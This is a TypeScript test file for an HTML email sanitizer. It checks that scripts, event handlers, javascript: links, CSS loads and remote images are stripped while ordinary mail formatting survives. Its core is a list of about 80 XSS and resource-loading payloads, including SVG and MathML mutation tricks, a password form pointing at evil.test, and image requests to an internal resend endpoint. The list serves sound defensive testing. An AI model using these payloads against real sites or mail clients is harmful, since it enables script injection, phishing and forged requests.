import { describe, expect, test } from 'vitest';
import { mailPage } from './mail-page.ts';
import { sanitizeMail, type ShownAs } from './sanitize-mail.ts';

const shown: ShownAs = {
  images: false,
  inline: { pic: '/api/messages/email/1/media/2' },
  ownHost: 'desk.test',
};
const open: ShownAs = { ...shown, images: { path: '/api/emails/1/image', key: '07'.repeat(32) } };

/** Each carries the mark X where something of it would run, load or lead away. */
const vectors = [
  '<script>X()</script>',
  '<SCRIPT SRC=//evil.test/X.js></SCRIPT>',
  '<scr<script>ipt>X()</scr</script>ipt>',
  '<script/src=data:,X()></script>',
  '<<script>X();//<</script>',
  '<img src=x onerror=X()>',
  '<img/src="x"/onerror="X()">',
  '<img src="x`><script>X()</script>"`>',
  '<IMG """><SCRIPT>X()</SCRIPT>">',
  '<img src=javascript:X()>',
  '<img src="jav&#x09;ascript:X()">',
  '<img src=" &#14; javascript:X()">',
  '<img src="data:text/html,<script>X()</script>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9WCgpPg==">',
  '<img srcset="https://evil.test/X.png 1x">',
  '<svg onload=X()>',
  '<svg><script>X()</script></svg>',
  '<svg><animate attributeName=href values=javascript:X() /><a>x</a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=X()>#x"/></svg>',
  '<svg><style><img src=x onerror=X()></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=X()>',
  '<math href="javascript:X()">CLICK</math>',
  '<noscript><p title="</noscript><img src=x onerror=X()>">',
  '<xmp><img src=x onerror=X()></xmp>',
  '<textarea><img src=x onerror=X()></textarea>',
  '<title><img src=x onerror=X()></title>',
  '<template><script>X()</script></template>',
  '<iframe src="javascript:X()"></iframe>',
  '<iframe srcdoc="<script>X()</script>"></iframe>',
  '<frameset onload=X()><frame src="javascript:X()"></frameset>',
  '<object data="javascript:X()"></object>',
  '<embed src="https://evil.test/X.swf">',
  '<applet code=X></applet>',
  '<form action="https://evil.test/X"><input name=password><button formaction="javascript:X()">go</button></form>',
  '<input autofocus onfocus=X()>',
  '<select autofocus onfocus=X()>',
  '<video src=x onerror=X()><source onerror=X()></video>',
  '<audio src="https://evil.test/X.mp3" autoplay>',
  '<details open ontoggle=X()>',
  '<marquee onstart=X()>',
  '<body onload=X() background="https://evil.test/X.png">',
  '<table background="https://evil.test/X.png"><td background="javascript:X()">',
  '<a href="javascript:X()">x</a>',
  '<a href="JaVaScRiPt&colon;X()">x</a>',
  '<a href="java\nscript:X()">x</a>',
  '<a href="\u0001javascript:X()">x</a>',
  '<a href="vbscript:X()">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5YKCk8L3NjcmlwdD4=">x</a>',
  '<a href="/api/plivo/messages/text_message/X/resend">x</a>',
  '<a href="file:///etc/X">x</a>',
  '<img src="/api/plivo/messages/text_message/X/resend">',
  '<img src="https://desk.test/api/plivo/messages/text_message/X/resend">',
  '<img src="//desk.test/api/X">',
  '<img src="https://u:p@desk.test/api/X">',
  ...['desk.test:443', 'DESK.test.', 'desk.test:80', 'desk%2etest', 'u@desk.test:8443'].map(
    (host) => `<img src="http://${host}/api/plivo/messages/text_message/X/resend">`,
  ),
  '<base href="https://evil.test/X/">',
  '<link rel=stylesheet href="https://evil.test/X.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.test/X">',
  '<meta http-equiv="Set-Cookie" content="a=X">',
  '<div style="background:url(https://evil.test/X.png)">',
  '<div style="background:u\\72l(https://evil.test/X.png)">',
  '<div style="background:url(/*x*/javascript:X())">',
  '<div style="width:expression(X())">',
  '<div style="behavior:url(X.htc)">',
  '<div style="-moz-binding:url(https://evil.test/X.xml)">',
  '<div style="background:image-set(\'https://evil.test/X.png\' 1x)">',
  '<style>@import "https://evil.test/X.css";</style>',
  '<style>@im\\port url(https://evil.test/X.css);</style>',
  '<style>body{background:url("https://evil.test/X.png")}</style>',
  '<style>@font-face{font-family:a;src:url(https://evil.test/X.woff)}</style>',
  '<style></style><script>X()</script></style>',
  '<style>a{}</style\n><script>X()</script>',
  '<!--[if IE]><script>X()</script><![endif]-->',
  '<!--><script>X()</script>-->',
  '<![CDATA[<script>X()</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">X()</x:script>',
];

const allowedTags = new Set(
  'a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q s samp section small span strike strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr'.split(
    ' ',
  ),
);

/** What is left that a browser would act upon. */
function dangers(html: string, how: ShownAs): string[] {
  const { body, css } = sanitizeMail(html, how);
  const found: string[] = [];
  for (const [tag] of body.matchAll(/<[^>]*>?/g)) {
    const name = /^<\/?([a-z][\w-]*)/i.exec(tag)?.[1]?.toLowerCase();
    if (name === undefined || !allowedTags.has(name)) found.push(`tag ${tag}`);
    if (/[\s/"']on[a-z]+\s*=/i.test(tag)) found.push(`handler ${tag}`);
    for (const [, attribute, value = ''] of tag.matchAll(/\s([a-z-]+)="([^"]*)"/gi)) {
      if (
        attribute === 'src' &&
        !/^(data:image\/|\/api\/messages\/email\/1\/media\/2$|\/api\/emails\/1\/image\?src=http(?!s?%3A%2F%2F(.*%40)?desk\.test)[^\s]*&amp;sig=[\w-]{43}$)/.test(
          value,
        )
      )
        found.push(`source ${value}`);
      if (attribute === 'src' && ((!how.images && value.includes('image?')) || value.startsWith('http')))
        found.push(`remote ${value}`);
      if (attribute === 'href' && !/^(https?:|mailto:|tel:)/.test(value)) found.push(`link ${value}`);
      if (['srcset', 'background', 'action', 'srcdoc', 'formaction', 'id'].includes(attribute!))
        found.push(tag);
      if (attribute === 'style') found.push(...cssDangers(value, how));
    }
  }
  return [...found, ...cssDangers(css, how)];
}

const cssDangers = (css: string, how: ShownAs): string[] =>
  [
    /@import/i,
    /expression\s*\(/i,
    /position\s*:\s*fixed/i,
    /[\\<]/,
    /javascript/i,
    /behavior\s*:/i,
    /-moz-binding/i,
    /image-set/i,
  ]
    .filter((rule) => rule.test(css))
    .map(String)
    .concat(
      [...css.matchAll(/url\((?!"?data:image)[^)]*\)/gi)]
        .map(([url]) => url)
        .filter((url) => !how.images || !/^url\((&quot;|")\/api\/emails\/1\/image\?/.test(url)),
    );

test('there are vectors enough to mean something', () => {
  expect(vectors.length).toBeGreaterThanOrEqual(70);
});

describe('nothing of a mail runs, loads or leads away', () => {
  test.each(vectors)('%s', (html) => {
    expect(dangers(html, shown)).toEqual([]);
    expect(dangers(html, open)).toEqual([]);
    expect(dangers(`<table><tr><td>${html}`, shown)).toEqual([]);
  });

  test('what comes out goes in again unchanged', () => {
    for (const html of vectors) {
      const once = sanitizeMail(html, shown).body;
      expect(sanitizeMail(once, shown).body).toBe(once);
    }
  });
});

describe('what stays', () => {
  test('the looks of an ordinary mail', () => {
    const html =
      '<table width="600" bgcolor="#eee"><tr><td align="center" style="color: red;padding:4px"><font face="Arial" size="2">Hi <b>Maria</b></font></td></tr></table>';
    expect(sanitizeMail(html, shown).body).toBe(
      '<table width="600" bgcolor="#eee"><tr><td align="center" style="color: red;padding:4px"><font face="Arial" size="2">Hi <b>Maria</b></font></td></tr></table>',
    );
  });

  test('links, in a tab of their own that learns nothing of us', () => {
    expect(sanitizeMail('<a href="https://example.com/a?b=1&amp;c=2" target=_top>x</a>', shown).body).toBe(
      '<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(
      sanitizeMail('<a href="mailto:a@example.com">x</a><a href="tel:+15035550133">y</a>', shown).body,
    ).toContain('href="mailto:a@example.com"');
  });

  test('its own pictures; those from outside only when asked for, by us', () => {
    expect(sanitizeMail('<img src="cid:pic" alt="a tooth">', shown).body).toContain(
      'src="/api/messages/email/1/media/2"',
    );
    const remote = '<img src="http://example.com/a.png" width="40">';
    expect(sanitizeMail(remote, shown).body).not.toContain('example.com');
    expect(sanitizeMail(remote, shown).body).toContain('width="40"');
    expect(sanitizeMail(remote, open).body).toMatch(
      /src="\/api\/emails\/1\/image\?src=http%3A%2F%2Fexample\.com%2Fa\.png&amp;sig=[\w-]{43}"/,
    );
    expect(sanitizeMail(`<p style="background:url('http://example.com/(a).png')">`, open).body).toContain(
      'url(&quot;/api/emails/1/image?src=http%3A%2F%2Fexample.com%2F',
    );
    expect(sanitizeMail(`<img src="https://example.com/${'a'.repeat(5_000)}">`, open).body).not.toContain(
      'example.com',
    );
    // Kept out, an image keeps its room.
    const sized = sanitizeMail('<img src="https://x.test/a.png" width="300" height="100">', shown).body;
    expect(decodeURIComponent(sized)).toContain('width="300" height="100"><rect width="100%"');
    expect(sanitizeMail('<img src="cid:none">', shown).body).toContain('src="data:image/svg');
  });

  test('its style sheet, without what loads', () => {
    const { css } = sanitizeMail(
      '<style>.a{color:red;position:fixed}</style><style>@media (max-width:600px){.a{background:url(https://example.com/a.png)}}</style>',
      shown,
    );
    expect(css).toContain('.a{color:red;position:static}');
    expect(css).toContain('@media (max-width:600px){.a{background:none}}');
  });

  test('what it quotes is folded', () => {
    const html = '<p>Yes.</p><blockquote type="cite" onclick="x()">Can you?</blockquote>';
    expect(mailPage({ html, text: '', subject: '', dark: false, shown })).toContain(
      '<p>Yes.</p><details><summary>Quoted text</summary><blockquote>Can you?</blockquote></details>',
    );
  });

  test('text alone, with its addresses as links', () => {
    const page = mailPage({
      html: null,
      text: 'see <https://example.com/a?b=1&c=2> & "so" on',
      subject: '',
      dark: true,
      shown,
    });
    expect(page).toContain(
      'see &lt;<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">https://example.com/a?b=1&amp;c=2</a>&gt; &amp; &quot;so&quot; on',
    );
    expect(page).toContain('filter:invert');
  });
});
